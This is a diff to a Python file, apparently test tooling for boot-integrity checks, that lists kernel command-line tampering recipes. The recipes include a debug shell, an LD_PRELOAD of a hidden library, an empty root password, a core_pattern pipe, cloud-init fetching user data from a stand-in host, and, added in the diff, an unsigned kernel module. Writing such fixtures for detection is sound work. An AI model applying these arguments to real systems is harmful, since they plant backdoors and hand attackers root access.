@@ -1,5 +1,5 @@
 """Arguments of the kernel, in every place that gives some."""
-from tamper_disk import Recipes
+from tamper_disk import Recipes, unsigned
 
 recipe = Recipes()
 argument = recipe.argument
@@ -11,7 +11,8 @@ argument('unit-that-systemd-wants', 'systemd.wants=debug-shell.service')  # syst
 argument('variable-of-all-services', 'systemd.setenv=LD_PRELOAD=/root/.x.so')  # systemd(1), kernel command line
 argument('credential-of-the-password', 'systemd.set_credential=passwd.hashed-password.root:')  # systemd.system-credentials(7)
 argument('settings-of-the-kernel', 'sysctl.kernel.core_pattern="|/root/.x %p"')  # fs/proc/proc_sysctl.c, do_sysctl_args
-argument('modules-to-load', 'modules_load=helper')                       # systemd-modules-load.service(8)
+recipe['modules-to-load'] = lambda d: (d.argument('modules_load=helper'), (  # systemd-modules-load.service(8)
+    'LNX-KERNEL-010', d.put(f'{d.modules}/kernel/helper.ko', unsigned(d.module()[1]))))[1]
 argument('script-of-the-initramfs', 'boot=x')                            # init of initramfs-tools sources /scripts/$BOOT
 argument('cloud-init-from-elsewhere', 'ds=nocloud-net;s=http://203.0.113.9/')  # cloud-init, NoCloud: user data of that server
 argument('configuration-of-cloud-init', 'cc:{bootcmd: [/root/.x]}end_cc')  # cloud-init, kernel command line
